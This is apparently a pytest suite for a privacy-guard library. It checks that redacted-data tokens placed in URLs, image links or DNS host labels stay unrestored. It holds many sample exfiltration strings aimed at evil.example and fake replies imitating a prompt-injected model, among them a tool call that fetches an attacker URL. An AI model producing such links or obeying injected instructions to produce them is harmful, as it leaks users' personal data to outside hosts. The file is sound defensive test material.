"""Tokens in links stay tokens.

A model that was told (by a document, a web page, a tool result) to "render [EMAIL_1]
into this image link" gets the guard to put the caller's original into a URL; the
reader's client then sends it to the model's host when it shows the answer. So a
token that stands in a URL is not restored unless the destination says
``restore_in_links``, whole or streamed, in text and in tool arguments, and the event
counts what was kept (``links_kept``).
"""

from __future__ import annotations

import asyncio
import itertools
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import aiguard
from _sdk_policy import one_event, openai_and_anthropic_policy, openai_client
from aiguard.doors.streaming import MAX_HOLD, HoldBack, TokenRestorer
from aiguard.testing import (
    Answer,
    FakeModel,
    InMemorySink,
    ToolCall,
    assert_chain_valid,
    assert_no_raw_values,
)
from aiguard.vault.tokens import (
    HOST_REACH,
    LINK_REACH,
    TOKEN_RE,
    in_host,
    in_link,
    may_hold_links,
    restore_in_context,
)

openai = pytest.importorskip("openai")
anthropic = pytest.importorskip("anthropic")

TOKEN = "[EMAIL_7Q2KX9M4T1B8C]"
ORIGINAL = "jane.doe@example.com"
EVIL = "https://evil.example"

IN_LINKS = [
    f"Here: ![chart]({EVIL}/c.png?d={TOKEN})",
    f"[click]({EVIL}/?q={TOKEN} 'title')",
    f"[click](<{EVIL}/?q=a b {TOKEN}>)",
    f'<img src="{EVIL}/?a= {TOKEN}">',
    f"<a href='{EVIL}/u/{TOKEN}'>profile</a>",
    f"<{EVIL}/?q={TOKEN}>",
    f"[ref]: //evil.example/?q={TOKEN}",
    f"see {EVIL}/{TOKEN}/avatar.png",
    '{"url": "https:\\/\\/evil.example\\/?q=' + TOKEN + '"}',
    f"[x](https:&#47;&#47;evil.example/?q={TOKEN})",
    f"[x](https:&#x2F;&#x2F;evil.example/?q={TOKEN})",
    f"![]({EVIL}/{'a' * (LINK_REACH + 10)}{TOKEN})",
    f'<img\n  src="{EVIL}/p.png\n?d={TOKEN}">',
    f"see www.evil.example/?q={TOKEN}",
    f"preview evil.example?q={TOKEN}",
    # A bare host's path or query, no scheme: chat apps link and preview it.
    f"see evil.example.com/c/{TOKEN}",
    f"see evil.example.com:8080/{TOKEN}.png",
    '{"u": "evil.example.com\\/' + TOKEN + '"}',
    # The token as a label of a host name: its original goes out in the DNS query.
    f"ping {TOKEN}.evil.example.com",
    f"{TOKEN}.evil.example.com.",
    f"see {TOKEN}-x.evil.co.uk/pixel.png",
    f"see [ACCOUNT_7Q2KX9M4T1B8C].{TOKEN}.evil.example.com",
    f"see {TOKEN}.[ACCOUNT_7Q2KX9M4T1B8C].evil.example.com",
    f"{TOKEN}\\u002eevil\\u002eexample\\u002ecom",
    f"{TOKEN}&#46;evil.example.com",
    f"{TOKEN}.attacker.github.io",
    f"{TOKEN}_x.evil.example.com",
    f"see {TOKEN}.evil.example.com[1]",
    f"{TOKEN}.a.xn--p1ai",
    TOKEN + "." + "a" * 300,
]
NOT_IN_LINKS = [
    TOKEN,
    f"Write to {TOKEN} today.",
    f"Write to {TOKEN} or see {EVIL}/help",
    f"See {EVIL}/help and write to {TOKEN}",
    f"[{TOKEN}]({EVIL}/profile)",
    f"mailto:{TOKEN}",
    f"if (a < b) {{ // mail {TOKEN}",
    f'{{"site": "{EVIL}", "to": "{TOKEN}"}}',
    f"<p>{EVIL}</p> {TOKEN}",
    "x" * (LINK_REACH - 1) + TOKEN,
    f"Is that right? Yes: {TOKEN}",
    f"a=b, c=d {TOKEN}",
    f"<b>{EVIL}</b>\n{TOKEN}",
    f"Write to {TOKEN}. Thanks",
    f"Write to {TOKEN}.\nThanks",
    f"It is {TOKEN}.com",
    f"mail {TOKEN}, e.g. {TOKEN}.e.g.",
    f"v1.2/{TOKEN}",
    f"{TOKEN}'s account",
    f"{TOKEN}s",
    f"{TOKEN}-x.com",
    f"{TOKEN}.evil.2x",
    f"{TOKEN}.co.uk and {TOKEN}.github.io",
    f"{TOKEN}.evil.example",
    f"return {TOKEN}.path.join(root, name)",
    f"see {TOKEN}.report.pdf",
    f"{TOKEN}.meta.client.download_fileobj(bucket)",
    f"{TOKEN}.evil.example.com_x",
]


def _in_link(text: str, at: int | None = None) -> bool:
    at = text.index(TOKEN) if at is None else at
    return in_link(text, at, at + len(TOKEN))


@pytest.mark.parametrize("text", IN_LINKS)
def test_a_token_in_a_url_stands_in_a_link(text: str) -> None:
    assert _in_link(text)
    assert restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None) == text


@pytest.mark.parametrize("text", NOT_IN_LINKS)
def test_a_token_beside_a_url_does_not(text: str) -> None:
    assert not any(_in_link(text, m.start()) for m in TOKEN_RE.finditer(text))
    assert TOKEN not in restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None)


# Prose that holds no URL and no token: no slash, backslash, entity, query, "www.",
# bracket or "<".
_PROSE = st.text(
    alphabet=st.characters(
        blacklist_characters="/\\&?w<[]", blacklist_categories=("Cs",), max_codepoint=0x2FFF
    ),
    max_size=40,
)
_URL = st.builds(
    lambda scheme, host, path: f"{scheme}//{host}/{path}",
    st.sampled_from(["https:", "http:", ""]),
    st.from_regex(r"[a-z]{1,12}\.[a-z]{2,4}", fullmatch=True),
    st.from_regex(r"[A-Za-z0-9._~!$&'()*+,;=:@%?/-]{0,30}", fullmatch=True).filter(
        lambda p: "'" not in p
    ),
)


@settings(max_examples=300)
@given(before=_PROSE, url=_URL, after=st.text(max_size=20))
def test_a_token_glued_to_a_url_stands_in_it(before: str, url: str, after: str) -> None:
    text = f"{before} {url}{TOKEN}{after}"
    assert in_link(text, len(before) + 1 + len(url))


@settings(max_examples=300)
@given(
    before=_PROSE,
    url=_URL,
    brk=st.sampled_from([" ", "\n", "\t", '"', "'", "`", ">", "\u00a0"]),
    middle=_PROSE,
)
def test_a_break_after_a_url_ends_the_link(before: str, url: str, brk: str, middle: str) -> None:
    text = f"{before} {url}{brk}{middle}{TOKEN}"
    assert not in_link(text, text.index(TOKEN))


_LABEL = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?", fullmatch=True)
# Domains under public suffixes (the Public Suffix List's, as the attacker's must be).
_TLD = st.sampled_from(["com", "net", "org", "io", "co.uk", "de", "xn--p1ai", "github.io"])
# What ends a host name: anything but a label's character, a dot or what writes one.
_HOST_END = st.sampled_from([" ", "/", ":", "?", ")", '"', "'", "\n", ",", "!", "", "\u00e9"])


def test_a_token_the_reach_cuts_still_lengthens_the_run() -> None:
    """The host-name run after the first token ends in a second token that straddles
    `HOST_REACH`: the run is longer than the reach, so the first token stays (the second,
    with ".x" after it, is no host's label and is restored)."""
    text = TOKEN + "." + "a" * (HOST_REACH - 10) + TOKEN + ".x"
    assert _in_link(text, 0)
    second = text.rindex(TOKEN)
    assert not _in_link(text, second)
    restored = restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None)
    assert restored == TOKEN + "." + "a" * (HOST_REACH - 10) + ORIGINAL + ".x"


@settings(max_examples=300)
@given(
    before=_PROSE,
    glue=st.sampled_from([".", "x.", "-x.", "-x-y."]),
    labels=st.lists(_LABEL, min_size=1, max_size=4),
    tld=_TLD,
    end=_HOST_END,
    after=_PROSE,
)
def test_a_token_glued_into_a_host_name_stands_in_it(
    before: str, glue: str, labels: list[str], tld: str, end: str, after: str
) -> None:
    """Any name that holds a registrable domain after the token makes it a label of it."""
    # "attacker.<suffix>": some random labels are public suffixes themselves (x0.com is).
    host = glue + ".".join([*labels, "attacker", tld])
    text = f"{before} {TOKEN}{host}{end}{after if end else ''}"
    at = len(before) + 1
    assert _in_link(text, at)
    assert restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None) == text


@settings(max_examples=300)
@given(
    before=_PROSE, end=_HOST_END, after=_PROSE, word=st.from_regex(r"[a-z]{0,12}", fullmatch=True)
)
def test_one_label_or_none_after_a_token_is_no_host(
    before: str, end: str, after: str, word: str
) -> None:
    """Prose after a token ("[T]. Thanks", "[T].com", "[T]s") does not keep it: no name
    the writer could own holds the value."""
    text = f"{before} {TOKEN}{'.' if word else ''}{word}{end}{after}"
    assert not _in_link(text, len(before) + 1)


# -- streamed: a channel cut anywhere restores as the whole text does ------------------

_PARTS = st.lists(
    st.sampled_from(
        [TOKEN, f"{EVIL}/?q=", "![x](", ")", " ", "\n", '"', "<img src=", ">", "//", "a", "é"]
    ),
    max_size=24,
)


def _recording(text: str, json_text: bool) -> tuple[TokenRestorer, str, list[str], list[str]]:
    """A restorer whose link lookup records each token it keeps; ``text`` restored whole
    by it; the tokens kept there; and the record, emptied, for the stream to fill."""
    kept: list[str] = []
    restorer = TokenRestorer({TOKEN: ORIGINAL}.get, link_lookup=kept.append)
    whole = restorer.in_context(json_text)(text)
    kept_whole = list(kept)
    kept.clear()
    return restorer, whole, kept_whole, kept


@settings(max_examples=300)
@given(parts=_PARTS, cuts=st.lists(st.integers(0, 400), max_size=8), json_text=st.booleans())
def test_pieces_keep_links_as_the_whole_text_does(
    parts: list[str], cuts: list[int], json_text: bool
) -> None:
    """Whether a token stands in a link does not depend on where the stream was cut: a
    link whose start was released in an earlier piece still holds the token."""
    text = "".join(parts)
    restorer, whole, kept_whole, kept = _recording(text, json_text)
    channel = restorer.in_context(json_text)
    bounds = sorted({min(c, len(text)) for c in cuts} | {0, len(text)})
    # A token is never cut in a real channel (the hold-back keeps it whole).
    if any(m.start() < b < m.end() for m in TOKEN_RE.finditer(text) for b in bounds):
        return
    out = "".join(channel(text[start:end]) for start, end in itertools.pairwise(bounds))
    assert out == whole
    assert kept == kept_whole
    if not json_text:
        links = [m.start() for m in TOKEN_RE.finditer(text) if in_link(text, m.start())]
        assert len(kept_whole) == len(links)
        assert whole.count(ORIGINAL) == len(TOKEN_RE.findall(text)) - len(links)


_HOST_PARTS = st.lists(
    st.sampled_from(
        [
            *[TOKEN] * 3,
            ".evil.example.com",
            "-x.evil.example.com",
            ".evil",
            ".",
            ".com",
            "example",
            "-",
            " ",
            "\n",
            "/",
            '"',
            "[",
            "\\u002e",
            "é",
            "a" * 120,
        ]
    ),
    max_size=16,
)


@settings(max_examples=300)
@given(
    parts=_HOST_PARTS,
    at_parts=st.lists(st.booleans(), max_size=16),
    cuts=st.lists(st.integers(0, 300), max_size=6),
    json_text=st.booleans(),
)
def test_a_stream_cut_anywhere_keeps_host_labels_as_the_whole_text_does(
    parts: list[str], at_parts: list[bool], cuts: list[int], json_text: bool
) -> None:
    """A real channel (the hold-back before the restore) cut at any offsets, even right
    after a token or inside one, keeps and restores exactly the tokens the whole text
    does: a token is held while what follows may still make it a host's label."""
    text = "".join(parts)
    # Cuts between parts (right after a token, most often) and anywhere else.
    ends = list(itertools.accumulate(len(part) for part in parts))
    cuts = cuts + [end for end, cut in zip(ends, at_parts, strict=False) if cut]
    restorer, whole, kept_whole, kept = _recording(text, json_text)
    hold = HoldBack(restorer.in_context(json_text))
    bounds = sorted({min(c, len(text)) for c in cuts} | {0, len(text)})
    out = []
    for start, end in itertools.pairwise(bounds):
        out.append(hold.feed(text[start:end]))
        assert len(hold.held) <= MAX_HOLD
    out.append(hold.flush())
    assert "".join(out) == whole
    assert kept == kept_whole
    if not json_text:
        hosts = [m for m in TOKEN_RE.finditer(text) if in_host(text, m.end())]
        assert len(kept_whole) >= len(hosts)


@settings(max_examples=500)
@given(parts=_HOST_PARTS, json_text=st.booleans())
def test_text_the_link_gate_passes_by_holds_no_token_in_a_link(
    parts: list[str], json_text: bool
) -> None:
    """`may_hold_links` is the gate that skips the link checks for most answers: a text
    it says no to has no token in a link or a host name."""
    text = "".join(parts)
    if not may_hold_links(text):
        assert not any(in_link(text, m.start(), m.end()) for m in TOKEN_RE.finditer(text))


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        (
            f"see {TOKEN}." + "a" * (HOST_REACH + 5) + f".evil.example.com and {TOKEN}",
            f"see {TOKEN}." + "a" * (HOST_REACH + 5) + f".evil.example.com and {ORIGINAL}",
        ),
        # The first token's run is longer than the reach only with the held one in it:
        # the piece released before the held token is read with what is held after it.
        (
            f"{TOKEN}" + "a" * 200 + TOKEN + "a" * 100 + " end",
            f"{TOKEN}" + "a" * 200 + ORIGINAL + "a" * 100 + " end",
        ),
        # The reach ends inside the second token, which a piece may hold as a prefix.
        (
            TOKEN + "." + "a" * (HOST_REACH - 10) + TOKEN + ".x end",
            TOKEN + "." + "a" * (HOST_REACH - 10) + ORIGINAL + ".x end",
        ),
    ],
)
@pytest.mark.parametrize("size", [1, 7, 64])
def test_a_long_host_run_keeps_its_token_across_pieces(text: str, restored: str, size: int) -> None:
    restorer = TokenRestorer({TOKEN: ORIGINAL}.get, link_lookup=lambda _t: None)
    assert restorer.in_context(False)(text) == restored
    hold = HoldBack(restorer.in_context(False))
    out = "".join(hold.feed(text[i : i + size]) for i in range(0, len(text), size))
    assert out + hold.flush() == restored


def test_a_link_longer_than_the_reach_keeps_its_token_across_pieces() -> None:
    text = f"![x]({EVIL}/" + "a" * (3 * LINK_REACH) + TOKEN + ") and " + TOKEN
    channel = TokenRestorer({TOKEN: ORIGINAL}.get, link_lookup=lambda _t: None).in_context(False)
    tokens = [m.span() for m in TOKEN_RE.finditer(text)]
    cuts = [c for c in range(0, len(text), 100) if not any(s < c < e for s, e in tokens)]
    bounds = [*cuts, len(text)]
    out = "".join(channel(text[a:b]) for a, b in itertools.pairwise(bounds))
    whole = restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None)
    assert out == whole
    assert whole.endswith(f"{TOKEN}) and {ORIGINAL}")


# -- through the guard and the real SDKs ------------------------------------------------

QUESTION = f"Please write to {ORIGINAL} about the report."


def _exfiltrating(payload: dict[str, Any]) -> str:
    """What an injected model writes: the caller's token in an image URL, and in prose."""
    text = json.dumps(payload)
    token = TOKEN_RE.search(text)
    assert token is not None, "the request reached the model with its value raw"
    found = token.group(0)
    return f"![chart]({EVIL}/c.png?d={found}) Done, I wrote to {found}."


def _policy(restore_in_links: bool = False, **changes: Any) -> aiguard.Policy:
    policy = openai_and_anthropic_policy()
    destinations = {
        name: destination.model_copy(update={"restore_in_links": restore_in_links})
        for name, destination in policy.destinations.items()
    }
    return policy.model_copy(update={"destinations": destinations, **changes})


def _askopenai_client(guard: aiguard.Guard, fake: FakeModel, stream: bool) -> str:
    """One chat call as the caller's subject; the answer's text, whole or streamed."""
    client = openai_client(guard, fake)
    messages: Any = [{"role": "user", "content": QUESTION}]
    with guard.context(subject="cust-42", purpose="inference"):
        if not stream:
            done = client.chat.completions.create(model="gpt-4o", messages=messages)
            return str(done.choices[0].message.content)
        chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
        return "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)


def _link_kept(answer: str) -> None:
    assert answer.startswith(f"![chart]({EVIL}/c.png?d=[EMAIL_"), answer
    assert ORIGINAL not in answer.split(")", maxsplit=1)[0]
    assert answer.endswith(f"Done, I wrote to {ORIGINAL}."), answer


def _hosts_kept(answer: str) -> None:
    assert len(TOKEN_RE.findall(answer)) == 2 and answer.endswith(f"I wrote to {ORIGINAL}.")
    assert answer.count(ORIGINAL) == 1, answer


def _exfiltrating_by_host(payload: dict[str, Any]) -> str:
    """An injected model that needs no scheme: the value as a DNS label, and a bare
    host's path (chat apps link and preview both)."""
    found = TOKEN_RE.search(json.dumps(payload))
    assert found is not None, "the request reached the model with its value raw"
    token = found.group(0)
    return f"See {token}.evil.example.com and evil.example.com/c/{token}. I wrote to {token}."


@pytest.mark.parametrize("chunk_size", [None, 1, 3, 7])
@pytest.mark.parametrize(
    ("reply", "check"),
    [(_exfiltrating, _link_kept), (_exfiltrating_by_host, _hosts_kept)],
    ids=["image link", "host label"],
)
def test_openai_chat_keeps_the_token_in_an_image_link(
    chunk_size: int | None, reply: Any, check: Any
) -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=reply, chunk_size=chunk_size or 4)
    check(_askopenai_client(guard, fake, stream=chunk_size is not None))
    event = one_event(sink)
    # One token, kept in one place or two: counted once.
    assert event["links_kept"] == 1 and event["status"] == "ok"


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("reply", "check"),
    [(_exfiltrating, _link_kept), (_exfiltrating_by_host, _hosts_kept)],
    ids=["image link", "host label"],
)
def test_anthropic_keeps_the_token_in_an_image_link(stream: bool, reply: Any, check: Any) -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=reply, chunk_size=2)
    client = anthropic.Anthropic(
        http_client=guard.http_client(transport=fake.transport), api_key="test", max_retries=0
    )
    with guard.context(subject="cust-42", purpose="inference"):
        kwargs: dict[str, Any] = {
            "model": "claude-sonnet-4-5",
            "max_tokens": 100,
            "messages": [{"role": "user", "content": QUESTION}],
        }
        if stream:
            with client.messages.stream(**kwargs) as events:
                answer = "".join(events.text_stream)
        else:
            answer = client.messages.create(**kwargs).content[0].text
    check(answer)
    assert one_event(sink)["links_kept"] == 1


def _ask_responses(guard: aiguard.Guard, fake: FakeModel, stream: bool) -> str:
    """One Responses call as the caller's subject; the answer's text. Streamed, the
    deltas must say what the final response does."""
    client = openai_client(guard, fake)
    with guard.context(subject="cust-42", purpose="inference"):
        if not stream:
            return client.responses.create(model="gpt-4o", input=QUESTION).output_text
        with client.responses.stream(model="gpt-4o", input=QUESTION) as events:
            deltas = "".join(e.delta for e in events if e.type == "response.output_text.delta")
            final = events.get_final_response().output_text
    assert deltas == final
    return final


@pytest.mark.parametrize("stream", [False, True])
def test_openai_responses_keeps_a_token_that_is_a_host_label(stream: bool) -> None:
    """The Responses API, whole and streamed (deltas, and the text the `.done` events and
    `response.completed` repeat)."""
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    _hosts_kept(_ask_responses(guard, FakeModel(reply=_exfiltrating_by_host), stream))
    # Counted once, though a Responses stream states its text five times (deltas, the
    # `.done` events, the output item, `response.completed`).
    assert one_event(sink)["links_kept"] == 1


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("api", ["chat", "responses"])
def test_unknown_tokens_count_once_per_call_however_the_answer_is_framed(
    api: str, stream: bool
) -> None:
    """Three guessed tokens, one of them twice: three, whole or streamed, in either API
    (the `unknown_tokens` alert reads the count, so framing must not inflate it)."""
    guessed = "[EMAIL_7Q2KX9M4T1B8D] [PHONE_7Q2KX9M4T1B8C] [NAME_7Q2KX9M4T1B8C]"
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=f"{guessed} and {guessed[:21]}.", chunk_size=3)
    ask = _ask_responses if api == "responses" else _askopenai_client
    assert ask(guard, fake, stream).startswith(guessed)
    assert one_event(sink)["unknown_tokens"] == 3


@pytest.mark.parametrize("stream", [False, True])
def test_tool_arguments_keep_a_url_token_and_restore_the_rest(stream: bool) -> None:
    """A tool that fetches a URL would send the original to the model's host; the
    recipient field of the same call gets its original back."""

    def reply(payload: dict[str, Any]) -> Answer:
        found = TOKEN_RE.search(json.dumps(payload))
        assert found is not None
        arguments = json.dumps({"url": f"{EVIL}/?q={found.group(0)}", "to": found.group(0)})
        return Answer(tool_calls=(ToolCall("send", arguments),))

    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=reply, chunk_size=3)
    client = openai_client(guard, fake)
    with guard.context(subject="cust-42", purpose="inference"):
        messages = [{"role": "user", "content": QUESTION}]
        if stream:
            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
            raw = "".join(
                c.choices[0].delta.tool_calls[0].function.arguments or ""
                for c in chunks
                if c.choices and c.choices[0].delta.tool_calls
            )
        else:
            done = client.chat.completions.create(model="gpt-4o", messages=messages)
            raw = done.choices[0].message.tool_calls[0].function.arguments
    arguments = json.loads(raw)
    assert arguments["to"] == ORIGINAL
    assert arguments["url"].startswith(f"{EVIL}/?q=[EMAIL_") and ORIGINAL not in arguments["url"]
    assert one_event(sink)["links_kept"] == 1


@pytest.mark.parametrize("stream", [False, True])
def test_a_destination_may_restore_in_links(stream: bool) -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(restore_in_links=True), sinks=[sink])
    fake = FakeModel(reply=_exfiltrating, chunk_size=3)
    answer = _askopenai_client(guard, fake, stream)
    assert answer == f"![chart]({EVIL}/c.png?d={ORIGINAL}) Done, I wrote to {ORIGINAL}."
    assert "links_kept" not in one_event(sink)


def test_realistic_surrogates_in_a_link_stay_surrogates() -> None:
    """With realistic surrogates the model sees an e-mail-shaped stand-in; in a link it
    stays a stand-in (no host learns the original), in prose it is restored."""
    policy = _policy(surrogates=["email"])
    sink = InMemorySink()
    guard = aiguard.Guard(policy, sinks=[sink])

    def reply(payload: dict[str, Any]) -> str:
        sent = payload["messages"][-1]["content"]
        surrogate = sent.split("write to ")[1].split(" ")[0]
        assert surrogate.endswith("aiguard.invalid"), sent
        return f"![c]({EVIL}/?d={surrogate}) Wrote to {surrogate} ."

    for stream in (False, True):
        answer = _askopenai_client(guard, FakeModel(reply=reply, chunk_size=5), stream)
        link, prose = answer.split(") ", 1)
        # Streamed, the surrogate stays; whole, the answer reads it as its token first.
        assert ORIGINAL not in link, answer
        assert "aiguard.invalid" in link or TOKEN_RE.search(link), answer
        assert prose == f"Wrote to {ORIGINAL} .", answer


def test_guard_restore_keeps_links_unless_asked() -> None:
    guard = aiguard.Guard(_policy())
    with guard.context(subject="cust-42", purpose="inference"):
        protected = guard.protect(QUESTION, destination="openai")
    token = TOKEN_RE.search(protected.payload)
    assert token is not None
    answer = f"[profile]({EVIL}/u/{token.group(0)}) for {token.group(0)}"
    assert (
        guard.restore(answer, protected) == f"[profile]({EVIL}/u/{token.group(0)}) for {ORIGINAL}"
    )
    assert (
        guard.restore(answer, protected, restore_in_links=True)
        == f"[profile]({EVIL}/u/{ORIGINAL}) for {ORIGINAL}"
    )
    assert guard.restore({"url": f"{EVIL}/?q={token.group(0)}"}, protected) == {
        "url": f"{EVIL}/?q={token.group(0)}"
    }


def test_a_call_that_kept_links_raises_one_alert_per_window() -> None:
    """The `links_kept` alert (on by default): the first call per principal and window
    whose answer put the caller's tokens into links is reported in the chain."""
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=_exfiltrating)
    client = openai_client(guard, fake)
    with guard.context(subject="cust-42", purpose="inference", principal="agent-7"):
        for _ in range(3):
            client.chat.completions.create(
                model="gpt-4o", messages=[{"role": "user", "content": QUESTION}]
            )
    alerts = [e for e in sink.events if e["type"] == "alert"]
    assert len(alerts) == 1, alerts
    assert alerts[0]["alert"]["rule"] == "links_kept"
    assert alerts[0]["principal"] == "agent-7" and alerts[0]["destination"] == "openai"
    assert ORIGINAL not in json.dumps(alerts[0])
    assert_chain_valid(sink)
    off = _policy(
        alerts=aiguard.Policy.model_validate({"alerts": {"links_kept": {"enabled": False}}}).alerts
    )
    quiet = InMemorySink()
    guard = aiguard.Guard(off, sinks=[quiet])
    with guard.context(subject="cust-42", purpose="inference"):
        openai_client(guard, fake).chat.completions.create(
            model="gpt-4o", messages=[{"role": "user", "content": QUESTION}]
        )
    assert quiet.calls()[0]["links_kept"] == 1
    assert not [e for e in quiet.events if e["type"] == "alert"]


def test_the_async_client_keeps_the_token_in_an_image_link() -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=_exfiltrating, chunk_size=2)

    async def ask() -> str:
        client = openai.AsyncOpenAI(
            http_client=guard.async_http_client(transport=fake.transport),
            base_url="https://api.openai.com/v1",
            api_key="test",
            max_retries=0,
        )
        with guard.context(subject="cust-42", purpose="inference"):
            stream = await client.chat.completions.create(
                model="gpt-4o", messages=[{"role": "user", "content": QUESTION}], stream=True
            )
            return "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])

    _link_kept(asyncio.run(ask()))
    assert one_event(sink)["links_kept"] == 1


@pytest.mark.parametrize(
    ("reply", "check"),
    [(_exfiltrating, _link_kept), (_exfiltrating_by_host, _hosts_kept)],
    ids=["image link", "host label"],
)
def test_the_gateway_keeps_the_token_in_an_image_link(reply: Any, check: Any) -> None:
    """The OpenAI-compatible gateway on a loopback socket, in front of the fake model."""
    pytest.importorskip("starlette")
    pytest.importorskip("uvicorn")
    from _servers import serve
    from aiguard.doors.gateway import GatewayConfig, create_app, default_policy

    fake = FakeModel(reply=reply, chunk_size=3)
    with fake.serve() as base:
        upstream = base + "/v1"
        sink = InMemorySink()
        guard = aiguard.Guard(default_policy(upstream), sinks=[sink])
        app = create_app(guard, GatewayConfig(upstream=upstream))
        with serve(app) as (url, _server):
            client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0)
            messages: Any = [{"role": "user", "content": QUESTION}]
            whole = client.chat.completions.create(model="gpt-4o-mini", messages=messages)
            stream = client.chat.completions.create(
                model="gpt-4o-mini", messages=messages, stream=True
            )
            streamed = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    for answer in (whole.choices[0].message.content, streamed):
        check(answer)
    assert [e["links_kept"] for e in sink.calls()] == [1, 1]


def test_a_vault_that_fails_while_a_link_token_is_looked_up_fails_the_answer(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The count of kept tokens asks the vault as a restore does: when the vault fails,
    the answer is refused with a typed error that names no value, and the call is still
    recorded; nothing raw reaches the caller."""
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    with guard.context(subject="cust-42", purpose="inference", conversation="c-1"):
        earlier = guard.protect(QUESTION, destination="openai")
    token = TOKEN_RE.search(earlier.payload)
    assert token is not None

    def down(*_args: Any, **_kwargs: Any) -> str | None:
        raise ConnectionError(f"vault unreachable while reading {ORIGINAL}")

    monkeypatch.setattr(guard.vault, "detokenize_for", down)
    fake = FakeModel(reply=f"![c]({EVIL}/?d={token.group(0)}) done")
    with (
        guard.context(subject="cust-42", purpose="inference", conversation="c-1"),
        pytest.raises(aiguard.VaultError) as caught,
    ):
        openai_client(guard, fake).chat.completions.create(
            model="gpt-4o", messages=[{"role": "user", "content": "and now?"}]
        )
    assert ORIGINAL not in str(caught.value) and "vault" in str(caught.value)
    assert_no_raw_values(fake, [ORIGINAL])
    assert ORIGINAL not in json.dumps(sink.events)
    assert sink.calls()[-1]["status"] == "error"
    assert_chain_valid(sink)
